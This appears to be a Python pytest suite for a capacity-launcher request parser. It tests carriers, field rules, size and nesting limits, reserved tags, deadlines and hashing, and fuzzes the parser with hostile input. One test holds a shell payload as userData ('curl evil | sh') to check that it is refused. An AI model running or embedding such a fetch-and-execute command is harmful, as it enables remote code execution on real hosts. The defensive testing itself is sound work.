"""The launch request contract: parsing from every carrier, every rule, and hostile input."""

import json
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from capacity_launcher.domain.capacity.requirements import CAPACITY_TYPE, CAPACITY_TYPES
from capacity_launcher.domain.errors import InvalidLaunchRequest
from capacity_launcher.domain.field_errors import FieldError
from capacity_launcher.domain.json_depth import shallow
from capacity_launcher.domain.launch_request import (
    MAX_BODY_BYTES,
    MAX_NESTING,
    NODE_CLASS_FIELDS,
    NOT_FOR_REQUESTERS,
    TOO_DEEP,
    LaunchRequest,
    invalid_body_hash,
    parse_launch_request,
)

DESIGN_REQUEST: dict[str, Any] = {
    "requestId": "train-run-42",
    "nodePool": "gpu-training",
    "count": 4,
    "minCount": 4,
    "singleZone": False,
    "requirements": [
        {"key": "karpenter.sh/capacity-type", "operator": "In", "values": ["reserved", "on-demand"]}
    ],
    "requester": "team-a",
    "tags": {"project": "llm"},
}


def request(**changes: Any) -> dict[str, Any]:
    body = {"requestId": "req-1", "count": 2} | changes
    return {key: value for key, value in body.items() if value is not None}


def event(detail: Any, detail_type: str = "Launch Requested") -> dict[str, Any]:
    return {
        "version": "0",
        "id": "6a7e8feb-b491-4cf7-a9f1-bf3703467718",
        "detail-type": detail_type,
        "source": "team-a.scheduler",
        "account": "123456789012",
        "time": "2026-01-01T00:00:00Z",
        "region": "us-east-1",
        "resources": [],
        "detail": detail,
    }


def rejection(raw: Any) -> InvalidLaunchRequest:
    with pytest.raises(InvalidLaunchRequest) as caught:
        parse_launch_request(raw)
    return caught.value


def the_error(raw: Any) -> tuple[str, str]:
    (error,) = rejection(raw).errors
    return error.field, error.rule


# --- every carrier -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "raw",
    [
        DESIGN_REQUEST,
        json.dumps(DESIGN_REQUEST),
        json.dumps(DESIGN_REQUEST).encode(),
        event(DESIGN_REQUEST),
        json.dumps(event(DESIGN_REQUEST)),
    ],
    ids=["object", "json-string", "json-bytes", "eventbridge-event", "event-in-sqs-body"],
)
def test_designs_request_parses_from_every_carrier(raw: Any) -> None:
    parsed = parse_launch_request(raw)

    assert parsed.request_id == "train-run-42"
    assert parsed.node_pool == "gpu-training"
    assert (parsed.count, parsed.min_count, parsed.single_zone) == (4, 4, False)
    assert parsed.requester == "team-a"
    assert parsed.tags == {"project": "llm"}
    assert parsed.requirements_set().allowed_values(CAPACITY_TYPE, CAPACITY_TYPES) == [
        "reserved",
        "on-demand",
    ]


def test_defaults_of_a_minimal_request() -> None:
    parsed = parse_launch_request({"requestId": "r", "count": 3})

    assert parsed.node_pool is None
    assert parsed.min_count == 1
    assert parsed.single_zone is False
    assert parsed.requirements == []
    assert parsed.requester is None
    assert parsed.tags == {}
    assert not parsed.requirements_set()


def test_to_dict_is_the_contracts_json() -> None:
    parsed = parse_launch_request(DESIGN_REQUEST)

    assert parsed.to_dict() == DESIGN_REQUEST
    assert parse_launch_request(parsed.to_dict()) == parsed


def test_the_body_hash_is_the_same_for_every_form_of_one_request() -> None:
    # Given the design's request, and the same request with defaults spelled out, keys and
    # requirements in another order, in python names, and carried in an EventBridge event
    two = [
        {"key": "kubernetes.io/arch", "operator": "In", "values": ["arm64"]},
        {"key": "karpenter.sh/capacity-type", "operator": "In", "values": ["reserved"]},
    ]
    minimal = {"requestId": "r-1", "count": 2, "requirements": two}
    spelled = {
        "requirements": list(reversed(two)),
        "singleZone": False,
        "min_count": 1,
        "count": 2,
        "tags": {},
        "request_id": "r-1",
    }
    event = {"detail-type": "Launch Requested", "source": "s", "detail": minimal}
    # Then they hash alike, and a change to any field does not
    forms = {parse_launch_request(b).body_hash() for b in (minimal, spelled, event)}
    assert len(forms) == 1
    changed = [
        {**minimal, "count": 3},
        {**minimal, "tags": {"project": "llm"}},
        {**minimal, "requester": "team-a"},
        {**minimal, "requirements": two[:1]},
    ]
    hashes = {parse_launch_request(b).body_hash() for b in changed}
    assert len(hashes) == len(changed) and not hashes & forms


def test_the_body_hash_ignores_the_order_of_a_requirements_values() -> None:
    # Given one request whose zones come in two orders (a producer building them from a set or a
    # map sends them in any order on each retry; red team 2, 2026-11-23)
    zones = ["us-east-1a", "us-east-1b", "us-east-1c"]

    def body(values: list[str]) -> dict[str, object]:
        requirement = {"key": "topology.kubernetes.io/zone", "operator": "In", "values": values}
        return {"requestId": "r-1", "count": 1, "requirements": [requirement]}

    # Then both hash alike (In and NotIn name sets), while other zones do not
    first, reordered = (parse_launch_request(body(v)) for v in (zones, zones[::-1]))
    other = parse_launch_request(body(zones[:2]))
    assert first.body_hash() == reordered.body_hash() != other.body_hash()


def test_python_names_are_accepted_too() -> None:
    made = LaunchRequest(request_id="r", count=2, min_count=2, single_zone=True)

    assert made.to_dict()["minCount"] == 2


def test_requests_are_immutable() -> None:
    parsed = parse_launch_request(DESIGN_REQUEST)

    with pytest.raises(ValueError, match="frozen"):
        parsed.count = 500  # type: ignore[misc]


# --- the carriers' own rules ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "raw",
    ["", "not json", "{", "[1, 2]", "42", "null", '"a string"', b"\xff\xfe", "{'requestId': 1}"],
)
def test_what_is_not_a_json_object_is_refused(raw: str | bytes) -> None:
    rejected = rejection(raw)

    assert rejected.errors == [FieldError("body", "must be a JSON object")]
    assert rejected.request_id is None


@pytest.mark.parametrize("raw", [None, 42, [DESIGN_REQUEST]])
def test_non_mappings_are_refused(raw: Any) -> None:
    assert the_error(raw) == ("body", "must be a JSON object")


def test_an_event_must_be_a_launch_requested_event() -> None:
    rejected = rejection(event(DESIGN_REQUEST, detail_type="Launch Fulfilled"))

    assert rejected.errors == [FieldError("detail-type", "must be 'Launch Requested'")]
    assert rejected.request_id == "train-run-42"


def test_an_events_detail_must_be_an_object() -> None:
    assert the_error(event("train-run-42")) == ("detail", "must be a JSON object")


@pytest.mark.parametrize("as_bytes", [True, False])
def test_bodies_over_256_kib_are_refused(as_bytes: bool) -> None:
    body = json.dumps(request(requester="x" * MAX_BODY_BYTES))
    raw: str | bytes = body.encode() if as_bytes else body

    assert the_error(raw) == ("body", f"must be at most {MAX_BODY_BYTES} bytes")


def test_multibyte_bodies_are_measured_in_bytes() -> None:
    body = json.dumps(request(requester="é" * (MAX_BODY_BYTES // 2)), ensure_ascii=False)
    assert len(body) < MAX_BODY_BYTES

    assert the_error(body) == ("body", f"must be at most {MAX_BODY_BYTES} bytes")


def test_already_parsed_bodies_are_held_to_the_same_size() -> None:
    assert the_error(request(requester="x" * MAX_BODY_BYTES)) == (
        "body",
        f"must be at most {MAX_BODY_BYTES} bytes",
    )


# --- field rules ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("changes", "field", "rule"),
    [
        ({"requestId": None}, "requestId", "is required"),
        (
            {"requestId": "-starts-with-dash"},
            "requestId",
            "must be 1 to 128 letters, digits or ._:- starting with a letter or digit",
        ),
        (
            {"requestId": "a" * 129},
            "requestId",
            "must be 1 to 128 letters, digits or ._:- starting with a letter or digit",
        ),
        (
            {"requestId": "has space"},
            "requestId",
            "must be 1 to 128 letters, digits or ._:- starting with a letter or digit",
        ),
        ({"requestId": 42}, "requestId", "input should be a valid string"),
        ({"nodePool": "GPU training"}, "nodePool", "must be 1 to 63 lowercase letters"),
        ({"count": None}, "count", "is required"),
        ({"count": 0}, "count", "input should be greater than or equal to 1"),
        ({"count": 501}, "count", "input should be less than or equal to 500"),
        ({"count": "4"}, "count", "input should be a valid integer"),
        ({"count": True}, "count", "input should be a valid integer"),
        ({"count": 2.5}, "count", "input should be a valid integer"),
        ({"minCount": 0}, "minCount", "input should be greater than or equal to 1"),
        ({"minCount": 3}, "minCount", "must be at most count"),
        ({"singleZone": "yes"}, "singleZone", "input should be a valid boolean"),
        ({"singleZone": 1}, "singleZone", "input should be a valid boolean"),
        ({"requester": "r" * 129}, "requester", "string should have at most 128 characters"),
        ({"requester": "team\x1b[31m"}, "requester", "must be 1 to 128 printable characters"),
        ({"requester": ""}, "requester", "must be 1 to 128 printable characters"),
        (
            {"requirements": [{"key": "example.com/x", "operator": "Exists"}]},
            "requirements[0].key",
            "must be a well-known key",
        ),
        (
            {"requirements": [{"key": CAPACITY_TYPE, "operator": "Gt", "values": ["1"]}]},
            "requirements[0].values",
            "operator Gt applies only to integer keys",
        ),
        (
            {"requirements": [{"key": CAPACITY_TYPE, "operator": "Exists"}] * 31},
            "requirements",
            "list should have at most 30 items",
        ),
        ({"tags": {f"t{i}": "v" for i in range(21)}}, "tags", "at most 20 tags"),
        (
            {"tags": {"aws:createdBy": "me"}},
            "tags",
            "tag key 'aws:createdBy' must not start with the reserved 'aws:'",
        ),
        (
            {"tags": {"capacity-launcher:request-id": "other"}},
            "tags",
            "tag key 'capacity-launcher:request-id' must not start with the reserved",
        ),
        (
            {"tags": {"Capacity-Launcher:managed": "true"}},
            "tags",
            "tag key 'Capacity-Launcher:managed' must not start with the reserved",
        ),
        ({"tags": {"k" * 129: "v"}}, "tags", "tag keys must be 1 to 128 characters"),
        ({"tags": {"k": "v" * 257}}, "tags", "tag 'k': values must be at most 256 characters"),
        ({"tags": {"k": 1}}, "tags.k", "input should be a valid string"),
    ],
)
def test_every_field_rule_is_named(changes: dict[str, Any], field: str, rule: str) -> None:
    found, broken = the_error(request(**changes))

    assert found == field
    assert broken.startswith(rule)


def test_twenty_tags_and_the_largest_count_are_fine() -> None:
    parsed = parse_launch_request(
        request(count=500, minCount=500, tags={f"t{i}": "v" for i in range(20)})
    )

    assert parsed.count == parsed.min_count == 500


@pytest.mark.parametrize("field", sorted(NODE_CLASS_FIELDS))
def test_requesters_cannot_choose_how_to_launch(field: str) -> None:
    assert the_error(request(**{field: "anything"})) == (field, NOT_FOR_REQUESTERS)


def test_unknown_fields_are_refused_for_requesters() -> None:
    field, rule = the_error(request(priority="high"))

    assert field == "priority"
    assert rule.startswith("is not allowed for requesters: a launch request sets only requestId")


def test_the_refusal_of_an_unknown_field_lists_every_field_a_request_sets() -> None:
    # The list once left out priorityClassName, which `submit --priority-class-name` sends.
    _, rule = the_error(request(priority="high"))

    listed = rule.removeprefix("is not allowed for requesters: a launch request sets only ")
    assert listed.split(", ") == [info.alias for info in LaunchRequest.model_fields.values()]
    assert "priorityClassName" in listed


@pytest.mark.parametrize(
    ("slip", "meant"),
    [
        ("nodepool", "nodePool"),
        ("requestID", "requestId"),
        ("min-count", "minCount"),
        ("minCout", "minCount"),
        ("waitForCapacityUtil", "waitForCapacityUntil"),
    ],
)
def test_a_misspelt_field_is_refused_naming_the_one_meant(slip: str, meant: str) -> None:
    field, rule = the_error(request(**{slip: 1}))

    assert field == slip
    assert rule.endswith(f"; did you mean {meant}?")


def test_unknown_fields_inside_a_requirement_are_named_plainly() -> None:
    body = request(requirements=[{"key": CAPACITY_TYPE, "operator": "Exists", "weight": 2}])

    assert the_error(body) == ("requirements[0].weight", "is not an allowed field")


def test_python_spellings_of_request_fields_are_not_refused() -> None:
    parsed = parse_launch_request({"request_id": "r", "count": 2, "min_count": 2})

    assert parsed.min_count == 2


def test_field_errors_and_refused_fields_are_reported_together() -> None:
    rejected = rejection(request(count=0, imageId="ami-1"))

    assert FieldError("imageId", NOT_FOR_REQUESTERS) in rejected.errors
    assert "count" in {error.field for error in rejected.errors}


def test_non_string_keys_are_refused_by_their_spelling() -> None:
    assert the_error({"requestId": "r", "count": 1, 7: "x"})[0] == "7"


def test_requesters_cannot_smuggle_fields_inside_an_event() -> None:
    field, rule = the_error(event(request(userData="#!/bin/sh\ncurl evil | sh")))

    assert (field, rule) == ("userData", NOT_FOR_REQUESTERS)


def test_every_broken_rule_is_reported_with_the_request_id() -> None:
    rejected = rejection(request(count=0, subnetIds=["subnet-1"], tags={"aws:x": "y"}))

    assert rejected.request_id == "req-1"
    assert {error.field for error in rejected.errors} == {"count", "subnetIds", "tags"}
    assert str(rejected).startswith("count: ")


def test_an_invalid_request_id_is_not_carried() -> None:
    assert rejection(request(requestId="bad id", count=0)).request_id is None


def test_hostile_field_names_are_cut_short() -> None:
    rejected = rejection(request(**{"x" * 10_000: 1}))

    (error,) = rejected.errors
    assert len(error.field) < 100


def test_thousands_of_unknown_fields_make_a_bounded_error() -> None:
    rejected = rejection(request(**{f"f{i}": i for i in range(5000)}))

    assert len(rejected.errors) <= 51
    assert rejected.errors[-1].rule == "and 4950 more errors"


def test_deeply_nested_json_is_refused_not_crashed() -> None:
    assert the_error("[" * 100_000 + "]" * 100_000) == ("body", "must be a JSON object")


def _nested(levels: int) -> str:
    return "[" * levels + "]" * levels


def _nested_value(levels: int) -> Any:
    value: Any = []
    for _ in range(levels - 1):
        value = [value]
    return value


@pytest.mark.parametrize("carrier", ["text", "bytes", "event", "parsed", "parsed-event"])
@pytest.mark.parametrize("requestid_first", [True, False], ids=["key-first", "key-last"])
def test_a_body_nested_thousands_deep_is_refused_naming_the_field_and_keeps_its_key(
    carrier: str, requestid_first: bool
) -> None:
    # Issue 24, defect 5: such a body has a key, so it is refused with it (a Rejected record),
    # naming the field that nests too deep and the rule, never dropped as "not an object"
    fields = {"requestId": "deep-1", "nodePool": "general", "count": 3}
    deep = '"tags": ' + _nested(20_000)
    pairs = [json.dumps(fields)[1:-1], deep]
    text = "{" + ", ".join(pairs if requestid_first else pairs[::-1]) + "}"
    raw: Any = {
        "text": text,
        "bytes": text.encode(),
        "event": json.dumps(event({}))[:-3] + text + "}",
        "parsed": {**fields, "tags": _nested_value(20_000)},
        "parsed-event": event({**fields, "tags": _nested_value(20_000)}),
    }[carrier]

    refused = rejection(raw)

    assert refused.request_id == "deep-1"
    assert [(e.field, e.rule) for e in refused.errors] == [("tags", TOO_DEEP)]
    assert (refused.node_pool, refused.count) == ("general", 3)


def test_nesting_is_counted_from_the_body_and_the_limit_itself_is_allowed() -> None:
    # The body is one level; a field whose value nests MAX_NESTING - 1 levels is within the rule
    # (and broken otherwise, as a tag must be text), one more level is not
    within = rejection(request(tags={"k": _nested_value(MAX_NESTING - 2)}))
    assert all(e.rule != TOO_DEEP for e in within.errors)
    assert within.request_id == "req-1"
    over = rejection(json.dumps(request(tags={"k": _nested_value(MAX_NESTING - 1)})))
    assert [(e.field, e.rule) for e in over.errors] == [("tags", TOO_DEEP)]


def test_brackets_quotes_and_escapes_inside_strings_do_not_nest() -> None:
    tags = {"a": "[" * 5000, "b": '\\"{{{' * 1000, "c": "\\" * 50 + "]]]"}
    parsed = parse_launch_request(json.dumps(request(tags={"a": "x"}) | {"tags": {"a": "x"}}))
    assert parsed.tags == {"a": "x"}
    refused = rejection(json.dumps(request(tags=tags)))
    assert all(e.rule != TOO_DEEP for e in refused.errors)  # too long values, not too deep


# JSON whose strings are full of brackets, quotes and escapes: only structure may count as depth.
_TRICKY = st.text(alphabet='[]{}"\\ ab', max_size=12)
tricky_json = st.recursive(
    _TRICKY | st.integers(),
    lambda children: (
        st.lists(children, max_size=3) | st.dictionaries(_TRICKY, children, max_size=3)
    ),
    max_leaves=30,
)


@settings(max_examples=100, deadline=None)
@given(tricky_json, st.integers(1, 6))
def test_shallow_json_is_the_same_document_with_what_is_too_deep_replaced(
    value: Any, limit: int
) -> None:
    raw = json.dumps(value).encode()
    pruned, replaced = shallow(raw, limit)

    def depth(v: Any) -> int:
        if isinstance(v, list):
            return 1 + max(map(depth, v), default=0)
        if isinstance(v, dict):
            return 1 + max(map(depth, v.values()), default=0)
        return 0

    assert replaced == (depth(value) > limit)
    if not replaced:
        assert pruned == raw
    assert depth(json.loads(pruned)) <= limit


def test_huge_integers_are_refused_not_crashed() -> None:
    assert the_error('{"requestId": "r", "count": ' + "9" * 5000 + "}")[0] == "body"


# --- hostile input, generated --------------------------------------------------------------------

json_values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats()
    | st.text(max_size=30)
    | st.sampled_from(["aws:x", "capacity-launcher:managed", "Launch Requested", "req-1"]),
    lambda children: (
        st.lists(children, max_size=4)
        | st.dictionaries(
            st.sampled_from([*DESIGN_REQUEST, *sorted(NODE_CLASS_FIELDS), "detail", "detail-type"])
            | st.text(max_size=12),
            children,
            max_size=5,
        )
    ),
    max_leaves=25,
)


def _parse_or_reject(raw: Any) -> LaunchRequest | InvalidLaunchRequest:
    try:
        return parse_launch_request(raw)
    except InvalidLaunchRequest as error:
        return error


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=200) | st.text(max_size=200))
def test_arbitrary_bytes_and_text_only_ever_reject(raw: bytes | str) -> None:
    outcome = _parse_or_reject(raw)

    assert isinstance(outcome, InvalidLaunchRequest)
    assert outcome.errors


@settings(max_examples=150, deadline=None)
@given(json_values, st.booleans())
def test_arbitrary_json_parses_or_rejects_with_named_errors(data: Any, as_text: bool) -> None:
    raw = json.dumps(data) if as_text else data

    outcome = _parse_or_reject(raw)

    if isinstance(outcome, InvalidLaunchRequest):
        assert outcome.errors
        assert all(error.field and error.rule for error in outcome.errors)
    else:
        assert 1 <= outcome.min_count <= outcome.count <= 500


@settings(max_examples=100, deadline=None)
@given(
    st.dictionaries(st.sampled_from(sorted(DESIGN_REQUEST)), json_values, max_size=8),
    st.sampled_from([None, "event", "text"]),
)
def test_mutated_requests_parse_or_reject(changes: dict[str, Any], carrier: str | None) -> None:
    body: Any = DESIGN_REQUEST | changes
    raw = event(body) if carrier == "event" else json.dumps(body) if carrier == "text" else body

    outcome = _parse_or_reject(raw)

    if isinstance(outcome, LaunchRequest):
        assert outcome.to_dict()["requestId"] == body["requestId"]
    else:
        assert outcome.errors


@settings(max_examples=100, deadline=None)
@given(
    st.sampled_from(["aws:", "AWS:", "capacity-launcher:", "Capacity-Launcher:"]),
    st.text(max_size=20),
)
def test_reserved_tag_prefixes_are_always_refused(prefix: str, rest: str) -> None:
    rejected = rejection(request(tags={prefix + rest: "v"}))

    assert [error.field for error in rejected.errors] == ["tags"]


@settings(max_examples=100, deadline=None)
@given(st.sampled_from(sorted(NODE_CLASS_FIELDS)), json_values)
def test_node_class_fields_are_always_refused(field: str, value: Any) -> None:
    rejected = rejection({"requestId": "req-1", "count": 2, field: value})

    assert FieldError(field, NOT_FOR_REQUESTERS) in rejected.errors


@settings(max_examples=100, deadline=None)
@given(st.text(min_size=1, max_size=300))
def test_hostile_unicode_request_ids_parse_only_when_they_fit_the_pattern(request_id: str) -> None:
    outcome = _parse_or_reject(request(requestId=request_id))

    if isinstance(outcome, LaunchRequest):
        assert outcome.request_id == request_id
        assert request_id.isascii()
        assert len(request_id) <= 128
    else:
        assert outcome.errors[0].field == "requestId"
        assert outcome.request_id is None


# --- waiting for scheduled capacity (waitForCapacityUntil) ---------------------------------------


def test_a_deadline_is_an_aware_timestamp_kept_in_the_contracts_json() -> None:
    parsed = parse_launch_request(request(waitForCapacityUntil="2026-11-24T12:00:00Z"))

    assert parsed.wait_for_capacity_until == datetime(2026, 11, 24, 12, tzinfo=UTC)
    assert parsed.to_dict()["waitForCapacityUntil"] == "2026-11-24T12:00:00Z"
    assert "waitForCapacityUntil" not in parse_launch_request(request()).to_dict()


@pytest.mark.parametrize(
    ("deadline", "rule"),
    [
        ("2026-11-24T12:00:00", "input should have timezone info"),
        (1795521600, "must be an ISO-8601 timestamp with a time zone"),
        ("tomorrow", "input should be a valid datetime"),
    ],
)
def test_a_deadline_must_be_iso_8601_with_a_time_zone(deadline: Any, rule: str) -> None:
    field, broken = the_error(request(waitForCapacityUntil=deadline))

    assert field == "waitForCapacityUntil"
    assert broken.lower().startswith(rule.lower())


def test_a_request_that_excludes_reserved_capacity_may_wait_for_room() -> None:
    # Issue 37: any request may set a deadline (it waits for room in its queue, not only for
    # scheduled reserved capacity)
    on_demand_only = [{"key": CAPACITY_TYPE, "operator": "In", "values": ["on-demand", "spot"]}]
    parsed = parse_launch_request(
        request(requirements=on_demand_only, waitForCapacityUntil="2026-11-24T12:00:00Z")
    )

    problem = parsed.capacity_wait_problem(datetime(2026, 11, 23, 12, tzinfo=UTC))

    assert problem is None


@pytest.mark.parametrize(
    ("received", "problem"),
    [
        (datetime(2026, 11, 23, 12, tzinfo=UTC), None),
        (datetime(2026, 11, 10, 12, tzinfo=UTC), None),
        (datetime(2026, 11, 10, 11, 59, tzinfo=UTC), "must be at most 14 days after"),
        (datetime(2026, 11, 24, 12, tzinfo=UTC), "must be later than when the request"),
        (datetime(2026, 11, 25, tzinfo=UTC), "must be later than when the request"),
    ],
)
def test_the_deadline_is_judged_against_when_the_request_is_received(
    received: datetime, problem: str | None
) -> None:
    parsed = parse_launch_request(request(waitForCapacityUntil="2026-11-24T12:00:00Z"))

    found = parsed.capacity_wait_problem(received)

    if problem is None:
        assert found is None
    else:
        assert found is not None and found.startswith(problem)


def test_a_rejection_carries_the_node_pool_and_count_that_were_valid() -> None:
    kept = rejection({"requestId": "r-1", "count": 2, "nodePool": "gpu", "imageId": "ami-1"})
    lost = rejection({"requestId": "r-2", "count": True, "nodePool": ["gpu"], "minCount": 9})

    assert (kept.node_pool, kept.count) == ("gpu", 2)
    assert (lost.node_pool, lost.count) == (None, None)


def test_an_invalid_body_binds_its_request_id_by_a_hash_no_valid_body_has() -> None:
    # Given an invalid body under a requestId, resent as it came, and a valid body under it
    invalid = json.dumps({"requestId": "r-1", "count": 0})
    valid = parse_launch_request(json.dumps({"requestId": "r-1", "count": 1}))
    # Then each resend has one hash, another invalid body another, and no valid body the same
    assert invalid_body_hash(invalid) == invalid_body_hash(invalid)
    assert invalid_body_hash(invalid) != invalid_body_hash(json.dumps({"requestId": "r-1"}))
    assert invalid_body_hash(invalid) != valid.body_hash()
    # And a body nested too deep to dump still has one (it is never parsed again)
    deep: dict[str, Any] = {"requestId": "r-1"}
    for _ in range(5000):
        deep = {"a": deep}
    assert invalid_body_hash(deep).startswith("invalid:")
